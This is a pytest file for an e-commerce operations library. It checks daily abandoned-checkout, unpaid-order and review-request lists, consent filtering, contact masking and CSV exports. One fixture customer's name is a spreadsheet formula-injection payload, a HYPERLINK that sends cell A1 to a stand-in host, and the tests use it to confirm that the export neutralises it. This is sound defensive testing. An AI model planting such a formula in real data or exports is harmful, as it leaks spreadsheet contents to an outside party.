"""The daily action lists as of the end of Tuesday 10 June 2025 (London, UTC+1).

The end of D is 11 June 00:00 local. Every row of the hand-built store is named for why it
is (or is not) on a list; the expected lists are written out by hand.
"""

from __future__ import annotations

import csv
import datetime as dt

import pandas as pd
import pytest
from handbuilt import at, build_store
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from test_daily_as_of import cut_at

from opslib.exports import LIST_MIME
from opslib.metrics import fulfilment, outreach
from opslib.runs.reports import write_lists
from opslib.serve import pages
from opslib.store import Store, Window
from opslib.views.daily import data, marketing_today, orders_shipping

ZONE = "Europe/London"
DAY = dt.date(2025, 6, 10)
D = Window.of(DAY, zone=ZONE)
EVIL = '=HYPERLINK("http://e.vil/?"&A1,"Refund")'


def _customer(customer_id, name, email, *, consent=True, created="2025-01-01 10:00"):
    return {"customer_id": customer_id, "name": name, "email": email,
            "has_marketing_consent": consent, "created_at": at(created)}


CUSTOMERS = [
    _customer("c1", "Ada King Lovelace", "ada@x.org"),
    _customer("c2", f"{EVIL} Smith", "evil@x.org"),
    _customer("c3", "Bob Stone", "bob@x.org", consent=False),
    _customer("c5", "Eve Moss", "eve@x.org"),
    _customer("c6", "Finn Gray", "finn@x.org"),
    _customer("c7", "Gail", "GAIL@x.org"),
    _customer("c8", "Hal Ford", "hal@x.org", consent=False),
    _customer("c9", "Ivy Holt", "ivy@x.org"),
    _customer("c10", "Jo Park", "jo@x.org"),
    _customer("c11", "Kit Lane", "kit@x.org", created="2025-06-12 10:00"),  # after D
]


def _checkout(checkout_id, started, value, *, email=None, customer=None, completed=None):
    return {"checkout_id": checkout_id, "customer_id": customer, "email": email,
            "created_at": at(started), "value": value, "completed_order_id": completed}


CHECKOUTS = [
    _checkout("k1", "2025-06-10 12:00", 80.0, email="ada@x.org", customer="c1"),
    _checkout("k2", "2025-06-09 10:00", 200.0, email="ADA@x.org"),  # same address, older
    _checkout("k3", "2025-06-09 13:00", 150.0, email="bob@x.org", customer="c3"),  # no consent
    _checkout("k4", "2025-06-10 20:00", 60.0, email="guest@x.org"),  # no customer record
    _checkout("k5", "2025-06-09 09:00", 120.0, email="evil@x.org", customer="c2"),
    _checkout("k6", "2025-06-09 08:00", 90.0, email="dan@x.org"),  # ordered at 09:00
    _checkout("k7", "2025-06-09 08:00", 95.0, email="eve.work@x.org", customer="c5"),
    _checkout("k8", "2025-06-10 22:00", 70.0, email="finn@x.org", customer="c6"),  # order D+1
    _checkout("k9", "2025-06-07 23:30", 500.0, email="ada@x.org"),  # before the 72 hours
    _checkout("k10", "2025-06-10 09:00", 300.0),  # no e-mail
    _checkout("k11", "2025-06-09 10:00", 100.0, email="gail@x.org"),  # order before it
    _checkout("k12", "2025-06-10 21:00", 40.0, email="kit@x.org", customer="c11"),
    _checkout("k13", "2025-06-10 11:00", 30.0, email="ivy@x.org", completed="o-k13"),
]


def _order(order_id, placed, *, status="paid", customer=None, email=None, cancelled=None,
           method="card", total=50.0, channel="online_store"):
    return {"order_id": order_id, "order_number": f"#{order_id}", "created_at": at(placed),
            "financial_status": status, "customer_id": customer, "email": email,
            "cancelled_at": at(cancelled), "payment_method": method, "total_amount": total,
            "channel": channel}


ORDERS = [
    # checkouts followed (or not) by orders
    _order("o-k6", "2025-06-09 09:00", email="DAN@x.org"),
    _order("o-k7", "2025-06-09 09:30", customer="c5", email="eve@x.org"),
    _order("o-k8", "2025-06-11 01:00", customer="c6", email="finn@x.org"),  # after D
    _order("o-k11", "2025-06-09 08:00", customer="c7", email="gail@x.org"),  # before k11
    _order("o-k13", "2025-06-10 11:20", customer="c9", email="other@x.org"),
    # payments
    _order("u1", "2025-06-08 10:00", status="pending", customer="c1", method="bank_transfer",
           total=64.5),
    _order("u2", "2025-06-09 08:00", status="authorized", customer="c2", method="klarna",
           total=30.0),  # no e-mail on the order: the customer's
    _order("u3", "2025-06-09 10:00", status="pending", cancelled="2025-06-10 12:00"),
    _order("u4", "2025-06-09 12:00", status="pending", customer="c3", method="bank_transfer",
           cancelled="2025-06-12 09:00", total=12.0),
    _order("u5", "2025-06-09 13:00", status="paid", customer="c1"),
    _order("u6", "2025-06-11 00:30", status="pending", customer="c1"),  # after D
    _order("u7", "2025-03-01 10:00", status="pending", customer="c1"),  # beyond 60 days
    # deliveries
    _order("r1", "2025-05-20 10:00", customer="c1", email="ada@x.org", total=40.0),
    _order("r2", "2025-05-20 11:00", customer="c3", email="bob@x.org"),
    _order("r3", "2025-05-21 10:00", customer="c6", email="finn@x.org"),
    _order("r4", "2025-05-21 11:00", customer="c7", email="gail@x.org"),
    _order("r5", "2025-05-25 10:00", customer="c2", email="evil@x.org", total=75.0),
    _order("r6", "2025-05-25 11:00", channel="marketplace", total=20.0),
    _order("r7", "2025-05-26 10:00", customer="c5", email="eve@x.org"),
    _order("r8", "2025-05-27 10:00", customer="c8", email="hal@x.org", total=33.0),
    _order("r9", "2025-05-15 10:00", customer="c9", email="ivy@x.org"),
    _order("r10", "2025-05-28 10:00", customer="c9", email="ivy@x.org"),
    _order("r11", "2025-05-22 10:00", customer="c9", email="ivy@x.org"),
    _order("r12", "2025-05-22 11:00", customer="c10", email="jo@x.org"),
    _order("r13", "2025-05-22 12:00", customer="c1", email="ada@x.org",
           cancelled="2025-05-23 12:00"),
    _order("r14", "2025-05-23 10:00", customer="c1", email="ada@x.org", total=41.0),
]


def _parcel(shipment_id, order_id, shipped, delivered=None):
    return {"shipment_id": shipment_id, "order_id": order_id, "carrier": "Royal Mail",
            "service": "standard", "shipped_at": at(shipped), "delivered_at": at(delivered)}


SHIPMENTS = [
    _parcel("s1", "r1", "2025-05-22 10:00", "2025-05-28 09:00"),
    _parcel("s2", "r2", "2025-05-22 10:00", "2025-05-29 09:00"),
    _parcel("s3", "r3", "2025-05-22 10:00", "2025-05-30 09:00"),
    _parcel("s4", "r4", "2025-05-22 10:00", "2025-05-30 10:00"),
    _parcel("s5", "r5", "2025-05-27 10:00", "2025-06-01 09:00"),
    _parcel("s6", "r6", "2025-05-27 10:00", "2025-06-01 10:00"),
    _parcel("s7a", "r7", "2025-05-28 10:00", "2025-06-02 09:00"),
    _parcel("s7b", "r7", "2025-05-28 10:00", "2025-06-12 09:00"),  # delivered after D
    _parcel("s8", "r8", "2025-05-29 10:00", "2025-06-03 23:30"),  # late on the last day
    _parcel("s9", "r9", "2025-05-20 10:00", "2025-05-26 23:30"),  # 15 days before D
    _parcel("s10", "r10", "2025-05-30 10:00", "2025-06-04 00:30"),  # 6 days before D
    _parcel("s11", "r11", "2025-05-24 10:00", "2025-05-31 09:00"),
    _parcel("s12", "r12", "2025-05-24 10:00", "2025-05-31 10:00"),
    _parcel("s13", "r13", "2025-05-24 10:00", "2025-05-31 11:00"),
    _parcel("s14", "r14", "2025-05-25 10:00", "2025-05-30 12:00"),
]
RETURNS = [{"return_id": "x2", "order_id": "r2", "sku": None, "quantity": None,
            "reason": "size", "requested_at": at("2025-06-05 10:00")},
           {"return_id": "x5", "order_id": "r5", "sku": None, "quantity": None,
            "reason": "size", "requested_at": at("2025-06-12 10:00")}]  # after D


def _ticket(ticket_id, created, *, order=None, customer=None, category="other",
            escalated=False):
    return {"ticket_id": ticket_id, "created_at": at(created), "order_id": order,
            "customer_id": customer, "category": category, "is_escalated": escalated}


TICKETS = [
    _ticket("t3", "2025-06-01 10:00", order="r3", category="complaint"),
    _ticket("t8", "2025-06-11 10:00", customer="c8", category="complaint"),  # after D
    _ticket("t11", "2025-06-02 10:00", order="r11", category="where_is_my_order",
            escalated=True),
    _ticket("t1", "2025-06-02 10:00", customer="c1", category="product_question"),
    _ticket("t14", "2025-05-01 10:00", customer="c1", category="complaint"),  # before r1
]


def _score(response_id, submitted, kind, score, *, order=None, customer=None):
    return {"response_id": response_id, "submitted_at": at(submitted), "kind": kind,
            "score": score, "order_id": order, "customer_id": customer}


SURVEYS = [
    _score("v4", "2025-06-02 10:00", "nps", 6, order="r4"),
    _score("v5", "2025-06-02 10:00", "csat", 3, order="r5", customer="c2"),
    _score("v12", "2025-03-01 10:00", "review", 2, customer="c10"),
    _score("v1", "2024-06-01 10:00", "nps", 0, customer="c1"),  # over 180 days before D
    _score("v1b", "2025-06-10 10:00", "nps", 9, customer="c1"),
    _score("v8", "2025-06-12 10:00", "review", 1, order="r8"),  # after D
]
LINES = [{"order_id": o["order_id"], "line_number": 1, "created_at": o["created_at"],
          "sku": "A", "quantity": 1, "unit_price": 10.0} for o in ORDERS]
TABLES = {"customers": CUSTOMERS, "checkouts": CHECKOUTS, "orders": ORDERS,
          "order_lines": LINES, "shipments": SHIPMENTS, "returns": RETURNS,
          "tickets": TICKETS, "surveys": SURVEYS, "purchase_orders": [],
          "content_calendar": [],
          "products": [{"sku": "A", "product_id": "A", "title": "Product A", "category": "c"}]}


@pytest.fixture
def store(tiny_store) -> Store:
    return tiny_store(TABLES)


def _rows(frame: pd.DataFrame, columns: list[str]) -> list[tuple]:
    return [tuple(row) for row in frame[columns].itertuples(index=False)]


def test_abandoned_checkouts_golden_rows(store):
    """Not followed by an order (k6 by the e-mail, k7 by the customer, k13 by the order it
    became), inside the 72 hours (not k9), with an e-mail (not k10); ada's two checkouts are
    one row (the latest, k1); k8's order came after D; gail's order came before k11 (and
    her customer record is found by the e-mail, case-insensitively); kit's record is newer
    than D. Most valuable first."""
    t = store.table
    frame = outreach.abandoned_checkouts(t("checkouts"), t("orders"), t("customers"), as_of=D)
    assert list(frame.columns[:3]) == ["email", "first_name", "last_name"]
    assert _rows(frame, ["checkout_id", "email", "first_name", "last_name", "cart_value",
                         "has_marketing_consent"]) == [
        ("k3", "bob@x.org", "Bob", "Stone", 150.0, False),
        ("k5", "evil@x.org", '=HYPERLINK("http://e.vil/?"&A1,"Refund")', "Smith", 120.0,
         True),
        ("k11", "gail@x.org", "Gail", None, 100.0, True),
        ("k1", "ada@x.org", "Ada", "King Lovelace", 80.0, True),
        ("k8", "finn@x.org", "Finn", "Gray", 70.0, True),
        ("k4", "guest@x.org", None, None, 60.0, False),
        ("k12", "kit@x.org", None, None, 40.0, False),
    ]
    assert frame.hours_since_started.tolist() == [35.0, 39.0, 38.0, 12.0, 2.0, 4.0, 3.0]
    kept, left_out = outreach.consented(frame)
    assert kept.checkout_id.tolist() == ["k5", "k11", "k1", "k8"] and left_out == 3


def test_unpaid_orders_golden_rows(store):
    """Pending or authorized, placed in the 60 days to D, not cancelled by the end of D
    (u4 only later): u1, u2, u4 oldest first; u2 has the customer's e-mail."""
    t = store.table
    frame = outreach.unpaid_orders(t("orders"), t("customers"), as_of=D)
    assert _rows(frame, ["email", "first_name", "order_number", "payment_status",
                         "total_amount", "age_days", "is_held_from_shipping",
                         "has_marketing_consent"]) == [
        ("ada@x.org", "Ada", "#u1", "pending", 64.5, 2, True, True),
        ("evil@x.org", EVIL, "#u2", "authorized", 30.0, 1, False, True),
        ("bob@x.org", "Bob", "#u4", "pending", 12.0, 1, True, False),
    ]


def test_a_pending_payment_is_held_off_the_pick_list_and_the_ship_by_counts(store):
    """u1 and u4 wait for a bank transfer: not picked, not awaiting shipment, not past the
    ship-by promise; the authorized u2 (money reserved) is picked as usual."""
    t = store.table
    waiting = fulfilment.open_orders(t("orders"), t("order_lines"), t("shipments"), as_of=D,
                                     ship_within_hours=24)
    assert "u2" in set(waiting.order_id)
    assert not {"u1", "u4"} & set(waiting.order_id)
    picks = fulfilment.pick_list(t("orders"), t("order_lines"), t("shipments"), as_of=D)
    assert "#u1" not in set(picks.oldest_order_number)
    figures = orders_shipping.figures(store, DAY)
    assert figures["count_orders_awaiting_shipment"] == len(waiting)
    assert figures["count_unpaid_orders"] == 3


def test_review_requests_golden_rows(store):
    """Delivered 27 May – 3 Jun (local), every parcel by D: r14 (ada's latest delivery; her
    r1 came 28 May; her NPS 0 is older than 180 days, her complaint older than the order),
    r5 (CSAT 3 is not low; its return came after D), r6 (no e-mail: kept for the page to
    count), r8 (its complaint and low review came after D). Left out: r2 returned, r3
    complaint, r4 NPS 6, r7 a parcel delivered after D, r9 and r10 outside the days, r11
    escalated, r12 the customer's low review, r13 cancelled. The longest delivered first."""
    t = store.table
    frame = outreach.review_requests(t("orders"), t("shipments"), t("returns"), t("tickets"),
                                     t("surveys"), t("customers"), as_of=D)
    assert _rows(frame, ["order_number", "email", "first_name", "days_since_delivered",
                         "total_amount", "has_marketing_consent"]) == [
        ("#r14", "ada@x.org", "Ada", 11, 41.0, True),
        ("#r5", "evil@x.org", '=HYPERLINK("http://e.vil/?"&A1,"Refund")', 9, 75.0, True),
        ("#r6", None, None, 9, 20.0, False),
        ("#r8", "hal@x.org", "Hal", 7, 33.0, False),
    ]


def test_without_tickets_and_surveys_nothing_is_checked_and_the_page_says_so(tiny_store):
    """An absent table checks nothing: r3 (complaint) and r4 (NPS 6) are listed."""
    store = tiny_store({k: v for k, v in TABLES.items() if k not in ("tickets", "surveys")})
    frame = data.review_requests(store, DAY)
    assert {"#r3", "#r4"} <= set(frame.order_number)
    html = "".join(part.html for part in marketing_today.review_requests(store, DAY).parts)
    assert "Not checked (no tickets, surveys data)" in html


def _list_csv(section, tmp_path) -> list[list[str]]:
    payloads = {part.extra[LIST_MIME]["name"]: part.extra[LIST_MIME]
                for part in section.parts if LIST_MIME in getattr(part, "extra", {})}
    write_lists(tmp_path, payloads)
    (name,) = payloads
    with open(tmp_path / "lists" / f"{name}.csv", encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


@pytest.mark.parametrize("view, name", [
    (marketing_today.abandoned_checkouts, "abandoned_checkouts"),
    (marketing_today.review_requests, "review_requests"),
    (orders_shipping.awaiting_payment, "unpaid_orders"),
])
def test_each_list_is_a_csv_that_is_safe_in_a_spreadsheet(store, tmp_path, view, name):
    """The owner's report hands the whole list over with contacts unmasked; the customer
    whose name is a formula reads as text in the file."""
    section = view(store, DAY)
    rows = _list_csv(section, tmp_path)
    assert rows[0][:3] == ["email", "first_name", "last_name"]
    assert (tmp_path / "lists" / f"{name}.csv").is_file()
    cells = [cell for row in rows for cell in row]
    assert not any(cell.lstrip(" ").startswith(("=", "+", "-", "@")) for cell in cells)
    assert "'" + EVIL in cells and "evil@x.org" in cells


def test_marketing_list_keeps_only_consent_and_says_how_many_were_left_out(store):
    section = marketing_today.abandoned_checkouts(store, DAY)
    payload = section.parts[0].extra[LIST_MIME]
    assert [row[0] for row in payload["rows"]] == ["evil@x.org", "gail@x.org", "ada@x.org",
                                                   "finn@x.org"]
    assert "has_marketing_consent" not in payload["columns"]
    assert "3 more abandoned checkout(s) left out" in section.parts[1].html
    assert marketing_today.figures(store, DAY)["count_abandoned_checkouts"] == 4
    assert marketing_today.figures(store, DAY)["count_review_requests"] == 3


def test_the_warehouse_page_masks_contacts_and_hands_nothing_over(store):
    section = pages.awaiting_payment_list(store, DAY)
    html = "".join(part.html for part in section.parts)
    assert "#u1" in html and "#u4" in html
    assert "ada@x.org" not in html and "Ada" not in html and "bob@x.org" not in html
    assert not any(LIST_MIME in getattr(part, "extra", {}) for part in section.parts)


# ---------------------------------------------------------------------------------------
# As of D: the list for D on a store that goes on equals the list on the store cut at D

LOADERS = ("abandoned_checkouts", "unpaid_orders", "review_requests")


def _long_and_cut(folder, tables: dict, day: dt.date) -> tuple[Store, Store]:
    """A hand-built store in `folder`/long, and the same store cut at the end of `day`."""
    store = build_store(folder / "long", tables)
    return store, Store.open(cut_at(folder / "long", folder / "cut", day, ZONE),
                             store.settings)


@pytest.mark.parametrize("name", LOADERS)
def test_each_list_for_d_equals_the_list_on_the_store_cut_at_d(tmp_path, name):
    """The hand-built store has events after D (an order on D+1 after k8, a parcel on
    12 June, a complaint on 11 June, kit's record): cutting them off changes nothing."""
    long, cut = _long_and_cut(tmp_path, TABLES, DAY)
    loader = getattr(data, name)
    assert len(loader(long, DAY)) > 0
    pd.testing.assert_frame_equal(loader(long, DAY), loader(cut, DAY), check_dtype=False)


_moments = st.integers(min_value=0, max_value=24 * 40).map(
    lambda h: pd.Timestamp("2025-05-10 00:00", tz="UTC") + pd.Timedelta(hours=h))


@settings(max_examples=25, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.data())
def test_random_stores_give_the_same_lists_cut_or_not(tmp_path_factory, draw):
    """Random orders, checkouts, parcels, returns, tickets and scores around D: each list
    for D is the same on the store and on the store cut at D."""
    day = dt.date(2025, 6, 5)
    emails = ["a@x.org", "b@x.org", "B@x.org", None]
    orders, checkouts, parcels, refunds, tickets, scores = [], [], [], [], [], []
    for i in range(draw.draw(st.integers(1, 12))):
        placed = draw.draw(_moments)
        customer = draw.draw(st.sampled_from(["c1", "c2", None]))
        orders.append({
            "order_id": f"o{i}", "order_number": f"#{i}", "created_at": placed,
            "customer_id": customer, "email": draw.draw(st.sampled_from(emails)),
            "financial_status": draw.draw(st.sampled_from(["paid", "pending", "authorized"])),
            "cancelled_at": draw.draw(st.one_of(st.none(), _moments.filter(
                lambda m, p=placed: m > p)))})
        if draw.draw(st.booleans()):
            shipped = placed + pd.Timedelta(hours=draw.draw(st.integers(1, 72)))
            delivered = draw.draw(st.one_of(st.none(), st.integers(24, 24 * 12).map(
                lambda h, s=shipped: s + pd.Timedelta(hours=h))))
            parcels.append({"shipment_id": f"s{i}", "order_id": f"o{i}", "shipped_at": shipped,
                            "delivered_at": delivered, "carrier": "c", "service": "s"})
        later = placed + pd.Timedelta(hours=draw.draw(st.integers(1, 24 * 20)))
        kind = draw.draw(st.sampled_from(["none", "return", "ticket", "score"]))
        if kind == "return":
            refunds.append({"return_id": f"x{i}", "order_id": f"o{i}", "requested_at": later})
        elif kind == "ticket":
            tickets.append({"ticket_id": f"t{i}", "order_id": f"o{i}", "customer_id": customer,
                            "created_at": later, "category": "complaint"})
        elif kind == "score":
            scores.append({"response_id": f"v{i}", "order_id": f"o{i}",
                           "customer_id": customer, "submitted_at": later, "kind": "nps",
                           "score": draw.draw(st.integers(0, 10))})
    for i in range(draw.draw(st.integers(0, 8))):
        checkouts.append({"checkout_id": f"k{i}", "created_at": draw.draw(_moments),
                          "email": draw.draw(st.sampled_from(emails)),
                          "customer_id": draw.draw(st.sampled_from(["c1", "c2", None])),
                          "value": float(draw.draw(st.integers(1, 300))),
                          "completed_order_id": draw.draw(st.sampled_from(
                              [None] + [o["order_id"] for o in orders]))})
    customers = [_customer("c1", "Ann Lee", "a@x.org"),
                 _customer("c2", "Bo", "b@x.org", consent=False, created="2025-06-01 10:00")]
    long, cut = _long_and_cut(tmp_path_factory.mktemp("random"), {
        "customers": customers, "orders": orders, "checkouts": checkouts, "order_lines": [],
        "shipments": parcels, "returns": refunds, "tickets": tickets, "surveys": scores,
        "purchase_orders": [], "content_calendar": []}, day)
    for name in LOADERS:
        loader = getattr(data, name)
        pd.testing.assert_frame_equal(loader(long, day), loader(cut, day), check_dtype=False,
                                      obj=name)
